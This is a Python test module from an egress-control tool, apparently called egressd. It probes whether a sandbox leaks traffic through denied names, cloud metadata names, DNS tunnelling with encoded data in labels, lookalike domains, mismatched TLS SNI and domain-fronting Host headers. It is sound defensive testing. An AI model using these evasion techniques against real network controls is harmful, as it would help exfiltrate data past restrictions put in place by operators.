"""Probes of names: what is asked of DNS, what TLS and HTTP claim, and what lies just beside the rules in force."""

from __future__ import annotations

import socket
import ssl
from collections.abc import Iterator

from egressd.verify import wire
from egressd.verify.network import foreign
from egressd.verify.probe import Outcome, broke_off, held, judged, probe, untried, word
from egressd.verify.scene import Allowed, Scene

_LAB_ONLY = "names are asked in the lab alone, not where --target leads"
_NOTHING_ALLOWED = (
    "the rules allow no plain GET to a host by its exact name, so there is nothing to begin with"
)
_TYPES = {
    "A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35,
    "SVCB": 64, "HTTPS": 65, "ANY": 255, "CAA": 257, "private 65280": 65280,
}  # fmt: skip
_DATA = "mzxw6ytboi4dkmrsgq2tmobzgaydcmrtgq2tmnzyhe4tinbvgq3dinrx"
"""What a tunnel puts into a label: base32 of data, near the longest that a label can hold."""


@probe(
    "works",
    why="if nothing works at all, that nothing gets out proves little",
    held="an allowed request was answered by its origin, with a certificate that the sandbox's own trust store accepts",
)
def allowed_request(scene: Scene) -> Outcome:
    """Make a request that the rules allow, with TLS verified as any program in the sandbox verifies it."""
    allowed = scene.allowed
    if allowed is None:
        return untried(_NOTHING_ALLOWED)
    try:
        with _connection(scene, allowed) as raw:
            if allowed.scheme == "https":
                context = ssl.create_default_context()
                with context.wrap_socket(raw, server_hostname=allowed.name) as sock:
                    received = _ask(sock, allowed)
            else:
                received = _ask(raw, allowed)
    except OSError as error:
        return broke_off(f"{_FAILED}: {word(error)} from {allowed.name}")
    if wire.is_refusal(received):
        return broke_off(f"{_FAILED}: egressd refused {allowed.method} {allowed.scheme}://{allowed.name}")
    return held(f"{allowed.method} {allowed.scheme}://{allowed.name}:{allowed.port} was answered")


_FAILED = "a request that the rules allow does not work"


def _connection(scene: Scene, allowed: Allowed) -> socket.socket:
    """As any program makes one: by the name, or by the proxy where names resolve to nothing here."""
    if scene.resolver or scene.proxy is None or allowed.scheme != "https":
        return socket.create_connection((allowed.name, allowed.port), wire.SECONDS)
    raw = socket.create_connection(scene.proxy[:2], wire.SECONDS)
    raw.settimeout(wire.SECONDS)
    raw.sendall(wire.connect(allowed.name, allowed.port))
    raw.recv(4096)
    return raw


def _ask(sock: socket.socket, allowed: Allowed) -> bytes:
    sock.settimeout(wire.SECONDS)
    sock.sendall(wire.request(allowed.name, allowed.path, allowed.method))
    return sock.recv(4096)


@probe(
    "names",
    why="a host that no rule names is where stolen data goes",
    held="the name leads nowhere, and every request for it was refused",
)
def denied_name(scene: Scene) -> Outcome:
    """Resolve a name that no rule allows and ask it for something, in clear, by TLS and by the proxy."""
    if not scene.evil:
        return untried(_LAB_ONLY)
    if scene.evil_is_allowed:
        return untried("the rules let the whole public web be read")
    name = f"{scene.nonce}.denied.{scene.evil}"
    answer = wire.dns(scene.resolver, name)

    def tries() -> Iterator[str | None]:
        strange = foreign(answer)
        yield strange and f"DNS gave {strange}"
        data = wire.request(name, f"/{scene.nonce}")
        talks = [wire.tcp(address, 80, data) for address in answer.addresses]
        talks += [wire.tls(address, 443, name, data) for address in answer.addresses]
        talks += [wire.get_by_proxy(name, f"http://{name}/"), wire.tls_by_proxy(name, 443, name, data)]
        for talk in talks:
            through = wire.got_through(talk, scene.own_ends)
            yield through and f"{name}: {through}"

    return judged(tries(), "tries, all refused")


@probe(
    "names",
    why="metadata endpoints have names too, and a rule with a wildcard may cover one",
    held="no name resolved to anything, and the proxy refused each",
)
def metadata_names(scene: Scene) -> Outcome:
    """Resolve every cloud's metadata name, container hosts' and Kubernetes' names, and ask the proxy for them."""
    if not scene.metadata_names:
        return untried(_LAB_ONLY)

    def tries() -> Iterator[str | None]:
        for name in scene.metadata_names:
            through = foreign(wire.dns(scene.resolver, name))
            if through is None:
                talk = wire.get_by_proxy(name, f"http://{name}/latest/meta-data/")
                through = wire.got_through(talk, scene.own_ends)
            yield through and f"{name}: {through}"

    return judged(tries(), "names, none of which led anywhere")


@probe(
    "names",
    why="a question that is passed on carries data out in its labels, and data in with its answer",
    held="every question was answered by egressd itself, without a record of the name's owner; the owner's server saw none",
)
def dns_tunnel(scene: Scene) -> Outcome:
    """Ask for names full of data below an outside domain: every record type, long and many labels, by UDP and by TCP."""
    if not scene.evil:
        return untried(_LAB_ONLY)
    long = ".".join([f"{scene.nonce[:8]}{_DATA[:50]}"] * 3)
    names = [f"{number:x}{scene.nonce}{_DATA[:30]}.t.{scene.evil}" for number in range(4)]
    questions = [(f"{name.lower()}.{scene.nonce}.t.{scene.evil}", kind) for name, kind in _kinds()]
    questions += [(name, 16) for name in names] + [(f"{long}.t.{scene.evil}", kind) for kind in (1, 16, 10)]

    def tries() -> Iterator[str | None]:
        for name, kind in questions:
            for over in ("udp", "tcp"):
                strange = foreign(wire.dns(scene.resolver, name, kind, over=over))
                yield strange and f"type {kind} by {over}: {strange}"

    return judged(tries(), "questions, none of which was passed on")


def _kinds() -> list[tuple[str, int]]:
    return [(name.replace(" ", "-"), kind) for name, kind in _TYPES.items()]


@probe(
    "names",
    why="below an allowed wildcard the labels are the client's to choose; asking alone must tell nobody",
    held="every question was answered by egressd itself; the domain's own server saw none",
)
def dns_tunnel_allowed(scene: Scene) -> Outcome:
    """Ask for names full of data below a domain that a wildcard of the rules allows, without connecting to any."""
    if not scene.wild:
        return untried("the rules allow no wildcard" if scene.evil else _LAB_ONLY)

    def tries() -> Iterator[str | None]:
        for number, kind in enumerate((1, 28, 16, 10, 65)):
            answer = wire.dns(scene.resolver, f"{number}{scene.nonce}{_DATA[:24]}.{scene.wild}", kind)
            strange = foreign(answer)
            yield strange and f"type {kind}: {strange}"

    return judged(tries(), "questions, none of which was passed on")


@probe(
    "names",
    why="reading a rule as a suffix, or a wildcard as its apex, lets in who registers the right name",
    held="every name was refused by DNS and by the proxy",
)
def rule_edges(scene: Scene) -> Outcome:
    """Ask for names just beside the rules in force: the apex of a wildcard, below an exact name, look-alike suffixes."""
    if not scene.evil:
        return untried(_LAB_ONLY)
    if not scene.edges:
        return untried("the rules name no host that anything could lie beside")

    def tries() -> Iterator[str | None]:
        for edge in scene.edges:
            through = foreign(wire.dns(scene.resolver, edge.name))
            if through is None:
                data = wire.request(edge.name, f"/{scene.nonce}")
                talk = wire.tls_by_proxy(edge.name, 443, edge.name, data)
                through = wire.got_through(talk, scene.own_ends)
            yield through and f"{edge.name} ({edge.what}): {through}"

    return judged(tries(), "names, all refused")


@probe(
    "names",
    why="a hello for another name than the destination's reaches whoever shares its address",
    held="every handshake under a wrong name was refused",
)
def mismatched_sni(scene: Scene) -> Outcome:
    """Connect to an allowed name, directly and by CONNECT, and say another in the TLS hello."""
    allowed = scene.allowed
    if allowed is None or allowed.scheme != "https":
        return untried(_NOTHING_ALLOWED if scene.evil else _LAB_ONLY)
    wrong = f"sni.{scene.nonce}.{scene.evil}"
    data = wire.request(wrong, f"/{scene.nonce}")

    def tries() -> Iterator[str | None]:
        for address in wire.dns(scene.resolver, allowed.name).addresses:
            through = wire.got_through(wire.tls(address, allowed.port, wrong, data), scene.own_ends)
            yield through and f"{wrong} at {allowed.name}: {through}"
        through = wire.got_through(wire.tls_by_proxy(allowed.name, allowed.port, wrong, data), scene.own_ends)
        yield through and f"{wrong} in a CONNECT for {allowed.name}: {through}"

    return judged(tries(), "handshakes, all refused")


@probe(
    "names",
    why="domain fronting: the hello names an allowed host, the request in it another",
    held="every request for another host was refused",
)
def mismatched_host(scene: Scene) -> Outcome:
    """Make a request for another host over a connection to an allowed one: in Host, in the target, in both, as the second."""
    allowed = scene.allowed
    if allowed is None:
        return untried(_NOTHING_ALLOWED if scene.evil else _LAB_ONLY)
    wrong = f"host.{scene.nonce}.{scene.evil}"
    right = wire.request(allowed.name, allowed.path, allowed.method)
    url = f"{allowed.scheme}://{wrong}/{scene.nonce}"
    requests = [
        wire.request(wrong, f"/{scene.nonce}"),
        wire.request(allowed.name, url),
        wire.request(wrong, f"{allowed.scheme}://{allowed.name}{allowed.path}"),
        wire.request(allowed.name, allowed.path, more=f"Host: {wrong}\r\n"),
    ]

    def tries() -> Iterator[str | None]:
        for address in wire.dns(scene.resolver, allowed.name).addresses:
            for data in requests:
                through = wire.got_through(_say(allowed, address, data), scene.own_ends)
                yield through and f"{wrong} at {allowed.name}: {through}"
            both = right.replace(b"Connection: close\r\n", b"") + requests[0]
            yield _second(_say(allowed, address, both), wrong)
        if allowed.scheme == "https":
            for data in requests:
                talk = wire.tls_by_proxy(allowed.name, allowed.port, allowed.name, data)
                through = wire.got_through(talk, scene.own_ends)
                yield through and f"{wrong} in a CONNECT for {allowed.name}: {through}"

    return judged(tries(), "requests, all refused")


def _say(allowed: Allowed, address: str, data: bytes) -> wire.Talk:
    if allowed.scheme == "https":
        return wire.tls(address, allowed.port, allowed.name, data)
    return wire.tcp(address, allowed.port, data)


def _second(talk: wire.Talk, wrong: str) -> str | None:
    """Whether the second of two requests on one connection was carried: two answers, and no refusal among them."""
    answers = talk.received.count(b"HTTP/1.1 ")
    if answers < 2 or wire.is_refusal(talk.received):
        return None
    return f"{wrong} as a second request: {answers} answers"
